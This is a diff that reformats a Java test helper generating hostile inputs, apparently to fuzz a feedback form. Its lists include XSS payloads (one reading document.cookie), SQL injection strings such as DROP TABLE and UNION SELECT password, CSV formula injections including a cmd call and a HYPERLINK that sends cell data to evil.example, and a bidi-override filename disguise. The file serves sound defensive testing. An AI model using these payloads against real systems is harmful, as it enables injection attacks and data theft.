@@ -14,43 +14,107 @@ import java.util.Random;
 final class HostileInputs {
 
     enum Kind {
-        MARKUP, SQL, TOO_LONG, CONTROL, BROKEN_UTF8, BIDI, ZERO_WIDTH, EMOJI_COMBINING, CSV_FORMULA, MIXED
+        MARKUP,
+        SQL,
+        TOO_LONG,
+        CONTROL,
+        BROKEN_UTF8,
+        BIDI,
+        ZERO_WIDTH,
+        EMOJI_COMBINING,
+        CSV_FORMULA,
+        MIXED
     }
 
-    record Input(Kind kind, String text) {
-    }
+    record Input(Kind kind, String text) {}
 
     static final List<String> MARKUP = List.of(
-            "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
-            "\"><svg onload=alert(1)>", "<iframe src=\"javascript:alert(1)\"></iframe>",
-            "<a href=\"javascript:alert(1)\">click</a>", "</textarea><script>fetch('/x')</script>",
-            "<body onload=alert(1)>", "<style>*{display:none}</style>", "{{constructor.constructor('alert(1)')()}}",
-            "${7*7}", "#{7*7}", "<!--", "]]>", "<vaadin-button onclick=alert(1)>", "&lt;script&gt;", "&#x3C;script&#x3E;",
-            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "data:text/html,<script>alert(1)</script>",
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(document.cookie)>",
+            "javascript:alert(1)",
+            "\"><svg onload=alert(1)>",
+            "<iframe src=\"javascript:alert(1)\"></iframe>",
+            "<a href=\"javascript:alert(1)\">click</a>",
+            "</textarea><script>fetch('/x')</script>",
+            "<body onload=alert(1)>",
+            "<style>*{display:none}</style>",
+            "{{constructor.constructor('alert(1)')()}}",
+            "${7*7}",
+            "#{7*7}",
+            "<!--",
+            "]]>",
+            "<vaadin-button onclick=alert(1)>",
+            "&lt;script&gt;",
+            "&#x3C;script&#x3E;",
+            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+            "data:text/html,<script>alert(1)</script>",
             "'';!--\"<XSS>=&{()}");
     static final List<String> SQL = List.of(
-            "' OR 1=1 --", "'; DROP TABLE feedback; --", "\" OR \"\"=\"", "1; SELECT SLEEP(5)",
-            "' UNION SELECT password FROM staff_account --", "admin'--", "\\'; DELETE FROM audit_event; --",
-            "%' AND 1=0 UNION SELECT NULL,NULL --", "'); INSERT INTO feedback VALUES (1); --", "0x27 OR 0x31=0x31",
-            "`; SHUTDOWN; --", "\\\\\\'", "' AND extractvalue(1,concat(0x7e,version())) --");
+            "' OR 1=1 --",
+            "'; DROP TABLE feedback; --",
+            "\" OR \"\"=\"",
+            "1; SELECT SLEEP(5)",
+            "' UNION SELECT password FROM staff_account --",
+            "admin'--",
+            "\\'; DELETE FROM audit_event; --",
+            "%' AND 1=0 UNION SELECT NULL,NULL --",
+            "'); INSERT INTO feedback VALUES (1); --",
+            "0x27 OR 0x31=0x31",
+            "`; SHUTDOWN; --",
+            "\\\\\\'",
+            "' AND extractvalue(1,concat(0x7e,version())) --");
     static final List<String> CSV_FORMULA = List.of(
-            "=cmd|' /C calc'!A0", "+SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A10)",
-            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click me\")", "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
-            "\uFF1D1+1", "=1+1;=2+2");
-    static final int[] CONTROLS = {0x00, 0x01, 0x07, 0x08, 0x0B, 0x0C, 0x0D, 0x1B, 0x1F, 0x7F, 0x80, 0x85, 0x8D, 0x9B,
-            0x9F};
-    static final int[] BIDI = {0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x200E, 0x200F,
-            0x061C};
+            "=cmd|' /C calc'!A0",
+            "+SUM(1+1)",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(A1:A10)",
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click me\")",
+            "\t=1+1",
+            "\r=1+1",
+            "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
+            "\uFF1D1+1",
+            "=1+1;=2+2");
+    static final int[] CONTROLS = {
+        0x00, 0x01, 0x07, 0x08, 0x0B, 0x0C, 0x0D, 0x1B, 0x1F, 0x7F, 0x80, 0x85, 0x8D, 0x9B, 0x9F
+    };
+    static final int[] BIDI = {
+        0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x200E, 0x200F, 0x061C
+    };
     static final int[] ZERO_WIDTH = {0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x180E, 0x00AD};
-    static final String[] EMOJI = {"\uD83D\uDE00", "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
-            "\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08", "\uD83D\uDC4D\uD83C\uDFFD", "\u2764\uFE0F", "\uD83C\uDDEC\uD83C\uDDE7",
-            "\u0645\u0631\u062D\u0628\u0627", "\u05E9\u05DC\u05D5\u05DD", "Za\u017C\u00F3\u0142\u0107 g\u0119\u015Bl\u0105 ja\u017A\u0144",
-            "\uD835\uDD73\uD835\uDD8A\uD835\uDD91\uD835\uDD91\uD835\uDD94"};
-    static final String[] WORDS = {"The staff were kind", "my mum said", "the minibus was late", "I liked the club",
-            "nobody listened", "please change the times", "it was ok", "Polska szko\u0142a", "I am 14", "thank you"};
-    private static final byte[][] BROKEN_UTF8 = {{(byte) 0xC3, 0x28}, {(byte) 0xA0, (byte) 0xA1},
-            {(byte) 0xE2, 0x28, (byte) 0xA1}, {(byte) 0xF0, 0x28, (byte) 0x8C, (byte) 0xBC}, {(byte) 0xC0, (byte) 0xAF},
-            {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xFF, (byte) 0xFE}, {(byte) 0xF8, (byte) 0x88, (byte) 0x80}};
+    static final String[] EMOJI = {
+        "\uD83D\uDE00",
+        "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
+        "\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08",
+        "\uD83D\uDC4D\uD83C\uDFFD",
+        "\u2764\uFE0F",
+        "\uD83C\uDDEC\uD83C\uDDE7",
+        "\u0645\u0631\u062D\u0628\u0627",
+        "\u05E9\u05DC\u05D5\u05DD",
+        "Za\u017C\u00F3\u0142\u0107 g\u0119\u015Bl\u0105 ja\u017A\u0144",
+        "\uD835\uDD73\uD835\uDD8A\uD835\uDD91\uD835\uDD91\uD835\uDD94"
+    };
+    static final String[] WORDS = {
+        "The staff were kind",
+        "my mum said",
+        "the minibus was late",
+        "I liked the club",
+        "nobody listened",
+        "please change the times",
+        "it was ok",
+        "Polska szko\u0142a",
+        "I am 14",
+        "thank you"
+    };
+    private static final byte[][] BROKEN_UTF8 = {
+        {(byte) 0xC3, 0x28},
+        {(byte) 0xA0, (byte) 0xA1},
+        {(byte) 0xE2, 0x28, (byte) 0xA1},
+        {(byte) 0xF0, 0x28, (byte) 0x8C, (byte) 0xBC},
+        {(byte) 0xC0, (byte) 0xAF},
+        {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
+        {(byte) 0xFF, (byte) 0xFE},
+        {(byte) 0xF8, (byte) 0x88, (byte) 0x80}
+    };
 
     private final Random random;
     private final int[] lengths;
@@ -138,7 +202,8 @@ final class HostileInputs {
     private String bidi() {
         int override = BIDI[random.nextInt(BIDI.length)];
         // "exe.txt" shown as "txt.exe": the classic disguise.
-        return random.nextBoolean() ? "invoice" + Character.toString(override) + "fdp.exe"
+        return random.nextBoolean()
+                ? "invoice" + Character.toString(override) + "fdp.exe"
                 : sprinkle(word() + " " + word(), BIDI, 1 + random.nextInt(4));
     }
 
@@ -153,8 +218,16 @@ final class HostileInputs {
     }
 
     private String mixed() {
-        Kind[] parts = {Kind.MARKUP, Kind.SQL, Kind.CONTROL, Kind.BIDI, Kind.ZERO_WIDTH, Kind.EMOJI_COMBINING,
-                Kind.CSV_FORMULA, Kind.BROKEN_UTF8};
+        Kind[] parts = {
+            Kind.MARKUP,
+            Kind.SQL,
+            Kind.CONTROL,
+            Kind.BIDI,
+            Kind.ZERO_WIDTH,
+            Kind.EMOJI_COMBINING,
+            Kind.CSV_FORMULA,
+            Kind.BROKEN_UTF8
+        };
         StringBuilder text = new StringBuilder();
         int count = 2 + random.nextInt(3);
         for (int i = 0; i < count; i++) {
